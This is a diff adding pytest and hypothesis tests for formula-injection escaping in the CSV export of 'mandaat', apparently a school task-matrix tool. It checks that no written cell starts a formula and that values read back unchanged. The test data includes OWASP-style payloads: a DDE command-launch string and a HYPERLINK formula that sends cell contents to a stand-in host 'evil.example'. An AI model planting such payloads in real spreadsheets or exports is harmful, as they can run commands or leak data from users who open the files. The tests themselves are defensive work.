@@ -4,12 +4,21 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 import mandaat
+from mandaat._formula import FORMULA_START, csv_cell, csv_value
 from mandaat.graph.matrix import findings_by_cell, matrix_csv, matrix_text, raci_matrix
 from mandaat.report.picture import layout
+from mandaat.workbook._csv import _csv_grid
+from tests.cli.test_cli import run
+
+HOSTILE = Path(__file__).parents[1] / "data" / "hostile_school.yaml"
 
 
 @pytest.fixture
@@ -81,6 +90,73 @@ def test_csv_is_one_row_per_task_with_a_column_per_person_and_team(m, example):
     english = list(csv.reader(io.StringIO(matrix_csv(m, "en")), delimiter=";"))[0]
     assert english[:4] == ["id", "task", "task type", "domain"]
     assert "Ilse Bakker (internal supervisor)" in english and "all staff" in english
+
+
+# --- formula injection: no CSV cell mandaat writes starts a formula --------------------------
+
+#: What follows the dangerous first character: formulas of the OWASP examples.
+TAILS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"klik")',
+         "SUM(1,2)")
+
+
+def hostile(name: str, title: str) -> mandaat.School:
+    return mandaat.load_school({
+        "format": "mandaat/1", "school": {"name": "X"},
+        "people": [{"id": "anna", "name": "Anna", "roles": ["schoolleider"]},
+                   {"id": "tom", "name": name, "roles": ["leraar"]}],
+        "tasks": [{"id": "t1", "type": "planning", "title": title, "accountable": "anna",
+                   "responsible": ["tom"], "hours": {"tom": 3}}]})
+
+
+def cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for c in row]
+
+
+def dangerous(cell: str) -> bool:
+    return cell.startswith(FORMULA_START)
+
+
+@pytest.mark.parametrize("tail", TAILS)
+@pytest.mark.parametrize("start", FORMULA_START)
+def test_a_csv_matrix_starts_no_formula_and_reads_back_as_written(tmp_path, start, tail):
+    name, title = start + tail, start + tail + " (taak)"
+    text = matrix_csv(raci_matrix(hostile(name, title)))
+    assert not [c for c in cells(text) if dangerous(c)]
+    assert f"'{name} (leraar)" in cells(text) and f"'{title}" in cells(text)
+    path = tmp_path / "matrix.csv"
+    path.write_text(text, encoding="utf-8")
+    rows = _csv_grid(path).rows        # what mandaat's CSV reader makes of the file
+    assert f"{name} (leraar)" in rows[0] and rows[1][1] == title
+
+
+def test_the_hostile_school_as_csv_from_the_command_line_starts_no_formula(tmp_path):
+    out = tmp_path / "matrix.csv"
+    assert run("matrix", str(HOSTILE), "--format", "csv", "-o", str(out))[0] == 0
+    text = out.read_text(encoding="utf-8")
+    assert not [c for c in cells(text) if dangerous(c)]
+    written = cells(text)
+    assert "'\t=1+1 (leraar)" in written        # a tab in front of a formula: quoted
+    assert "\\x0d=1+1 (leraar)" in written      # a carriage return made visible: no formula
+    head = _csv_grid(out).rows[0]               # and the reader takes the quotes off again
+    assert "=cmd|' /C calc'!A0 (schoolleider)" in head and "+SUM(1,2)" in head
+    assert "\t=1+1 (leraar)" in head
+
+
+def test_a_number_in_a_csv_cell_is_data_and_stays_a_number():
+    assert [csv_cell(n) for n in ("-3", "+5", "-1,5", "-0.25", "+1e3")] == [
+        "-3", "+5", "-1,5", "-0.25", "+1e3"]
+    text = matrix_csv(raci_matrix(hostile("Tom", "-3")))
+    assert "-3" in cells(text)
+    assert [csv_cell(n) for n in ("-3+1", "-", "+", "=3", "@3", "-3 uur")] == [
+        "'-3+1", "'-", "'+", "'=3", "'@3", "'-3 uur"]
+
+
+@given(st.text())
+def test_every_text_survives_the_csv_quote_and_never_starts_a_formula(text):
+    cell = csv_cell(text)
+    assert csv_value(cell) == text
+    if dangerous(cell):   # only a plain number may start with a sign
+        assert cell == text and re.fullmatch(r"[+-][\d.,]+([eE][+-]?\d+)?", cell)
 
 
 def test_findings_mark_cells_rows_and_columns(example, m):
